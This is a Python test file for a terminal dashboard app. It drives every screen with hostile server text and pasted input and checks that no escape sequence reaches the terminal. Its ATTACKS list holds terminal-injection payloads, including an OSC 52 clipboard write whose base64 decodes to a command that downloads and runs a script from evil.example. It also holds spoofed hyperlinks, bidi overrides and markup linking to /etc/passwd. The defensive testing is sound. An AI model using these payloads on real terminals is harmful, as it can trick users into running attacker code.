"""Server text never carries escape sequences to the terminal — checked on what the driver would write.

The headless app is driven through every screen with hostile server text in every field it shows (box
names, states, errors, steps, secret names, GitHub logins, repositories, organisations, session agents and
metadata, server error messages that end up in notifications). After each step the whole screen is
rendered (``support.ui.screen_capture``: each Strip's segments, and the raw stream with Textual's own
control sequences) and checked: no ESC, CSI (7- or 8-bit), OSC, BEL, other C0/C1 control or bidi override
that came from a server; no hostile link; no clickable action made of server text.

The last test pastes escape sequences into the inputs themselves: a poisoned clipboard must not reach the
terminal through the input widgets' echo either.
"""

from __future__ import annotations

from typing import Any

from textual.widgets import Input, TextArea

from boxdeck.tui.modals.errors import ErrorsModal
from boxdeck.tui.modals.secret_form import NewSecretModal
from boxdeck.tui.screens.account import AccountScreen
from boxdeck.tui.screens.activity import ActivityScreen
from boxdeck.tui.screens.agent_prompt import AgentPromptScreen
from boxdeck.tui.screens.devbox_sessions import DevboxSessionsScreen
from boxdeck.tui.screens.devboxes import DevboxesScreen
from boxdeck.tui.screens.sandbox_sessions import SandboxSessionsScreen
from boxdeck.tui.screens.sandboxes import SandboxesScreen
from boxdeck.tui.screens.secrets import SecretsScreen
from boxdeck.tui.widgets.box_table import BoxTable
from support.tui import SIZE, until
from support.ui import (
    MockServer,
    app_alive,
    failed_workers,
    foreign_controls,
    mock_app,
    paste,
    screen_capture,
)

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
#: One hostile piece per attack, glued into the values below.
ATTACKS = (
    OSC52,
    "\x1b]52;c;QUFB\x1b\\",
    "\x9d52;c;QUFB\x9c",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b[31;1m\x1b[2J\x1b[H",
    "\x9b2J",
    "\x1bP$q\x1b\\",
    "\x1b_Ga=T;AAAA\x1b\\",
    "\x1bc",
    "\x07\x08\x00",
    "\u202eevil\u202c",
    "\u2066iso\u2069",
    "a\u2028b\u2029c",
    "[link=file:///etc/passwd]x[/link]",
    "[@click=app.quit]q[/]",
)


def hostile(label: str, n: int = 0) -> str:
    """`label` with two attacks around it (different ones for different n)."""
    return f"{ATTACKS[n % len(ATTACKS)]}{label}{ATTACKS[(n + 7) % len(ATTACKS)]}"


def hostile_server() -> MockServer:
    server = MockServer()
    server.empty_world()
    sandboxes = [
        {"id": f"sb{n}", "name": f"sb{n}-{hostile('name', n)}",
         "state": ("active", "failed", "stopped")[n % 3],
         "error_message": hostile("error", n + 1), "branch": hostile("branch", n + 2),
         "repo_url": f"https://github.com/acme/{hostile('repo', n + 3)}",
         "created_by": {"name": hostile("creator", n + 4)}, "provider": hostile("prov", n + 5),
         "current_session_id": "s1", hostile("extra-field", n): hostile("extra-value", n + 6)}
        for n in range(len(ATTACKS))
    ]
    server.answer("GET", "/api/v0beta1/sandboxes", sandboxes)
    server.answer("POST", "/api/v0beta1/sandboxes/[^/]+/(start|stop)",
                  {"error": "conflict", "message": hostile("cannot stop", 3)}, 409)
    server.answer("GET", "/api/v0beta1/sandboxes/[^/]+/sessions/latest",
                  {"id": "s1", "agent_name": hostile("agent", 2), "status": hostile("st", 4),
                   "metadata": {hostile("key", 5): hostile("value", 6), "ticket": "a\u2028b\u202ec"}})
    sessions = [{"id": f"s{n}", "agent_name": hostile("agent", n), "status": hostile("status", n + 1),
                 "started_at": "2026-03-02T09:00:00Z", "sandbox_id": "sb0",
                 "metadata": {hostile("k", n + 2): hostile("v", n + 3),
                              "rtl": "\u202eevil", "ls": "x\u2028y"}}
                for n in range(1, 5)]
    server.answer("GET", "/api/v0beta1/sandboxes/[^/]+/sessions", {"sessions": sessions, "total": 4})
    server.answer("GET", "/api/v0beta1/secrets",
                  [{"id": f"sec{n}", "name": hostile("SECRET", n), "scope": hostile("user", n + 1),
                    "description": hostile("desc", n + 2)} for n in range(4)])
    server.answer("GET", "/api/v0beta1/secrets/claude",
                  [{"id": "p1", "name": hostile("claude-key", 1), "type": hostile("api_key", 2),
                    "scope": "user"}])
    server.answer("GET", "/api/v1/devboxes",
                  [{"id": f"db{n}", "name": f"db{n}-{hostile('devbox', n)}",
                    "state": ("ready", "failed")[n % 2],
                    "access_url": hostile("https://x", n + 1), hostile("extra", n): 1} for n in range(6)])
    server.answer("GET", "/api/v1/devboxes/[^/]+/operations",
                  [{"id": "o1", "step": hostile("provision", 1), "status": "failed",
                    "message": hostile("boom", 2), "created_at": "2026-03-02T09:00:00Z"}])
    server.answer("GET", "/api/v1/devboxes/[^/]+/repositories",
                  [{"full_name": hostile("acme/web", 3), "clone_status": "failed",
                    "clone_error": hostile("denied", 4), "ref": hostile("main", 5),
                    "target_path": hostile("/w", 6)}])
    server.answer("GET", "/api/v1/devboxes/[^/]+/access/sessions",
                  [{"session_id": hostile("as1", 1), "command": hostile("ssh x", 2),
                    "expires_at": "2099-01-01T00:00:00Z"}])
    server.answer("GET", "/api/v1/users/me", {"has_ssh_key": True, hostile("x", 1): 2})
    server.answer("GET", "/api/v1/integrations/github/connection",
                  {"github_login": hostile("octocat", 3), "github_user_id": 1,
                   "connected_at": "2026-03-01T00:00:00Z"})
    server.answer("GET", "/api/v1/integrations/github/repos",
                  [{"repo_id": n, "full_name": hostile("acme/repo", n),
                    "default_branch": hostile("main", n + 1),
                    "private": bool(n % 2), "granted": True} for n in range(1, 5)])
    server.answer("GET", "/api/v1/integrations/github/orgs",
                  [{"org_login": hostile("acme-org", n), "granted": bool(n % 2)} for n in range(4)])
    return server


def table_of(app: Any) -> BoxTable:
    return app.screen.query_one(BoxTable)


async def test_no_screen_writes_server_escapes_to_the_terminal() -> None:
    """Every screen and dialog, each with hostile text in every field; all findings are collected first so
    one run shows every place that leaks (not only the first)."""
    server = hostile_server()
    app = mock_app(server)
    problems: dict[str, list[str]] = {}

    def check(where: str) -> None:
        capture = screen_capture(app)
        found = foreign_controls(capture)
        found += [f"link {link}" for link in capture.links() if "evil" in link or "/etc/" in link]
        found += [f"action {a}" for a in capture.click_metas() if "quit" in a]
        if found:
            problems[where] = found[:3]
        assert app_alive(app) and not failed_workers(app), (where, failed_workers(app))

    async def step(pilot: Any, key: str | None, kind: type, ready=lambda: True, where: str = "") -> None:
        if key:
            await pilot.press(key)
        await until(pilot, lambda: isinstance(app.screen, kind) and ready(), timeout=10)
        for _ in range(3):
            await pilot.pause()
        check(where or kind.__name__)

    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await step(pilot, None, SandboxesScreen, lambda: table_of(app).row_count == len(ATTACKS), "sandboxes")
        for n in (1, 3, 10):
            key = f"amika:sb{n}"
            table_of(app).select_key(key)
            await pilot.pause(0.4)  # the latest session arrives after the selection settles
            check(f"sandbox {n} detail")
        # An action the server refuses with a hostile message: the notification.
        table_of(app).select_key("amika:sb0")
        await pilot.pause()
        await pilot.press("x")
        await until(pilot, lambda: bool(app._notifications), timeout=10)
        await pilot.pause()
        check("refused action notification")
        await step(pilot, "v", SandboxSessionsScreen, lambda: app.screen.loaded, "sandbox sessions")
        await pilot.press("down")
        await pilot.pause()
        check("sandbox session detail")
        await pilot.press("escape")
        await step(pilot, None, SandboxesScreen)
        await step(pilot, "a", AgentPromptScreen, where="agent prompt")
        await pilot.press("escape")
        await step(pilot, "2", DevboxesScreen, lambda: table_of(app).row_count == 6, "devboxes")
        for n in (0, 1):
            table_of(app).select_key(f"devbox:db{n}")
            await pilot.pause(0.3)
            check(f"devbox {n} detail")
        table_of(app).select_key("devbox:db0")
        await pilot.pause()
        await step(pilot, "v", DevboxSessionsScreen, where="devbox sessions")
        await pilot.press("escape")
        def loaded() -> bool:
            return app.screen.loaded_at is not None and not app.screen.loading

        await step(pilot, "3", SecretsScreen, loaded, "secrets")
        await step(pilot, "4", AccountScreen, loaded, "account")
        await step(pilot, "e", ErrorsModal, where="errors")
        await pilot.press("escape")
        await step(pilot, "l", ActivityScreen, where="activity")
        await pilot.press("escape")
    assert not problems, "\n".join(f"{where}: {found}" for where, found in problems.items())


async def test_pasted_escape_sequences_never_reach_the_terminal() -> None:
    """A poisoned clipboard (a web page can put anything there) pasted into boxdeck must not write to the
    terminal: the filter, the agent prompt and a form input echo what they hold, so control characters and
    escape sequences must not get into them (or must be drawn escaped)."""
    server = MockServer()
    server.empty_world()
    server.answer("GET", "/api/v0beta1/sandboxes", [{"id": "a", "name": "alpha", "state": "active"}])
    app = mock_app(server)
    poisoned = f"git status {OSC52}\x1b[2J\u202eevil"
    problems: dict[str, list[str]] = {}
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: isinstance(app.screen, SandboxesScreen) and table_of(app).row_count == 1)
        await pilot.press("slash")
        await paste(pilot, app.screen.query_one("#filter", Input), poisoned)
        problems["filter"] = foreign_controls(screen_capture(app))[:3]
        await pilot.press("escape")
        await pilot.press("escape")
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, AgentPromptScreen))
        await paste(pilot, app.screen.query_one("#prompt", TextArea), poisoned)
        problems["agent prompt"] = foreign_controls(screen_capture(app))[:3]
        await paste(pilot, app.screen.query_one("#session-id", Input), poisoned)
        problems["session id"] = foreign_controls(screen_capture(app))[:3]
        await pilot.press("escape")
        await pilot.press("3")
        await until(pilot, lambda: isinstance(app.screen, SecretsScreen))
        await pilot.press("n")
        await until(pilot, lambda: isinstance(app.screen, NewSecretModal))
        await paste(pilot, app.screen.query_one("#name", Input), poisoned)
        problems["secret name"] = foreign_controls(screen_capture(app))[:3]
        assert app_alive(app)
    problems = {k: v for k, v in problems.items() if v}
    assert not problems, "\n".join(f"{where}: {found}" for where, found in problems.items())
